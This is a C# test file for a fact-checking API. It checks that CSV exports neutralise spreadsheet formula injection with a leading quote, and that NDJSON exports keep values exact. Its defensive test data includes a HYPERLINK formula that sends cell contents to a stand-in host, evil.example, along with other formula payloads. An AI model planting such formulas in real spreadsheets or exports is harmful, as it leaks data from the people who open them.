using System.Net;
using System.Text;
using System.Text.Json.Nodes;
using FactCheck.Api.Data;
using FactCheck.Api.Tests.Infrastructure;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using static FactCheck.Api.Tests.Infrastructure.ApiClient;

namespace FactCheck.Api.Tests;

/// <summary>
/// A CSV export is opened in spreadsheets: a cell a spreadsheet would evaluate (leading =, +, -, @, tab or carriage
/// return) is prefixed with a single quote, as OWASP recommends; RFC 4180 quoting still holds. NDJSON stays exact.
/// </summary>
public sealed class CsvInjectionTests(FactCheckApp app) : IClassFixture<FactCheckApp>
{
    private readonly HttpClient client = app.CreateClient();

    /// <summary>What a hostile author writes, and the cell a spreadsheet should receive (the last four are left alone).</summary>
    private static readonly (string Hostile, string Expected)[] Cells =
    [
        ("=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Click\")", "'=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Click\")"),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("'already quoted", "'already quoted"),
        ("a\",\"=1", "a\",\"=1"),
        ("Line one\n=line two", "Line one\n=line two"),
        ("2+2 is not =4", "2+2 is not =4"),
    ];

    [Fact]
    public async Task Hostile_cells_are_neutralised_in_csv_and_exact_in_ndjson()
    {
        var written = new List<(string ClaimId, string ActorId, string Unique, string Hostile, string Expected)>();
        foreach (var (hostile, expected) in Cells)
        {
            var unique = Guid.NewGuid().ToString("N");
            // The statement and claimant must be unique; the text at the start is what is being tested.
            var actor = await client.PostOkAsync("/api/v1/actors", new { name = $"{hostile} {unique}", kind = "person" });
            var claim = await client.PostOkAsync("/api/v1/claims", new { statement = $"{hostile} {unique}", claimantId = Id(actor), madeAt = "2021-12-21T10:00:00Z" });
            var review = await client.PostOkAsync($"/api/v1/claims/{Id(claim)}/reviews", new
            {
                publisher = new { name = hostile }, url = ImportFixtures.NewUrl(), textualRating = hostile, publishedAt = "2021-12-23T00:00:00Z",
            });
            // Stored as written (trimmed, as the API trims): nothing neutralised on the way in, only in the CSV.
            Assert.Equal($"{hostile} {unique}".Trim(), (string?)actor["name"]);
            Assert.Equal($"{hostile} {unique}".Trim(), (string?)claim["statement"]);
            Assert.Equal(hostile.Trim(), (string?)review["textualRating"]);
            Assert.Equal(hostile.Trim(), (string?)review["publisher"]!["name"]);
            if (hostile != hostile.TrimStart())
            {
                await StoreUntrimmedAsync(Guid.Parse(Id(claim)), Guid.Parse(Id(actor)), Guid.Parse(Id(review)), hostile, unique);
            }
            written.Add((Id(claim), Id(actor), unique, hostile, expected));
        }

        var csv = await client.GetAsync("/api/v1/claims/export?format=csv");
        var ndjson = await client.GetAsync("/api/v1/claims/export?format=ndjson");

        Assert.Equal(HttpStatusCode.OK, csv.StatusCode);
        Assert.Equal("text/csv", csv.Content.Headers.ContentType!.MediaType);
        Assert.Equal(HttpStatusCode.OK, ndjson.StatusCode);
        Assert.Equal("application/x-ndjson", ndjson.Content.Headers.ContentType!.MediaType);
        var rows = ParseCsv(await csv.Content.ReadAsStringAsync());
        var header = rows[0];
        Assert.All(rows, r => Assert.Equal(header.Count, r.Count));
        var lines = (await ndjson.Content.ReadAsStringAsync()).Split('\n', StringSplitOptions.RemoveEmptyEntries).Select(l => JsonNode.Parse(l)!).ToList();
        foreach (var (claimId, actorId, unique, hostile, expected) in written)
        {
            var row = Assert.Single(rows, r => r[0] == claimId);
            string Cell(string column) => row[header.IndexOf(column)];
            Assert.Equal($"{expected} {unique}", Cell("statement"));
            Assert.Equal($"{expected} {unique}", Cell("claimant"));
            Assert.Equal(expected, Cell("latestReviewPublisher"));
            Assert.Equal(expected, Cell("latestReviewRating"));
            Assert.Equal(actorId, Cell("claimantId"));
            Assert.Equal("2021-12-21T10:00:00Z", Cell("madeAt"));

            var line = Assert.Single(lines, l => (string?)l["id"] == claimId);
            Assert.Equal($"{hostile} {unique}", (string?)line["statement"]);
            Assert.Equal($"{hostile} {unique}", (string?)line["claimant"]);
            Assert.Equal(hostile, (string?)line["latestReviewRating"]);
            Assert.Equal(hostile, (string?)line["latestReviewPublisher"]);
        }
    }

    /// <summary>
    /// The API trims what it stores, so a leading tab or carriage return reaches the database only some other way (older
    /// data, a future writer): put it there directly, to show the export does not rely on the trimming.
    /// </summary>
    private async Task StoreUntrimmedAsync(Guid claimId, Guid actorId, Guid reviewId, string hostile, string unique)
    {
        await using var scope = app.Services.CreateAsyncScope();
        var db = scope.ServiceProvider.GetRequiredService<FactCheckDb>();
        await db.Claims.Where(c => c.Id == claimId).ExecuteUpdateAsync(s => s.SetProperty(c => c.Statement, $"{hostile} {unique}"));
        await db.Actors.Where(a => a.Id == actorId).ExecuteUpdateAsync(s => s.SetProperty(a => a.Name, $"{hostile} {unique}"));
        await db.Reviews.Where(r => r.Id == reviewId)
            .ExecuteUpdateAsync(s => s.SetProperty(r => r.PublisherName, hostile).SetProperty(r => r.TextualRating, hostile));
    }

    /// <summary>An RFC 4180 reader: quoted cells may hold commas, doubled quotes and line breaks; rows end with CRLF or LF.</summary>
    private static List<List<string>> ParseCsv(string text)
    {
        var rows = new List<List<string>>();
        var row = new List<string>();
        var cell = new StringBuilder();
        var quoted = false;
        for (var i = 0; i < text.Length; i++)
        {
            var c = text[i];
            if (quoted)
            {
                if (c != '"')
                {
                    cell.Append(c);
                }
                else if (i + 1 < text.Length && text[i + 1] == '"')
                {
                    cell.Append('"');
                    i++;
                }
                else
                {
                    quoted = false;
                }
            }
            else if (c == '"' && cell.Length == 0)
            {
                quoted = true;
            }
            else if (c == ',')
            {
                row.Add(cell.ToString());
                cell.Clear();
            }
            else if (c is '\n' or '\r')
            {
                if (c == '\r' && i + 1 < text.Length && text[i + 1] == '\n')
                {
                    i++;
                }
                row.Add(cell.ToString());
                cell.Clear();
                rows.Add(row);
                row = [];
            }
            else
            {
                Assert.True(c != '"', $"A quote inside an unquoted cell at {i}");
                cell.Append(c);
            }
        }
        Assert.True(!quoted && cell.Length == 0 && row.Count == 0, "The CSV does not end with a complete row.");
        return rows;
    }
}
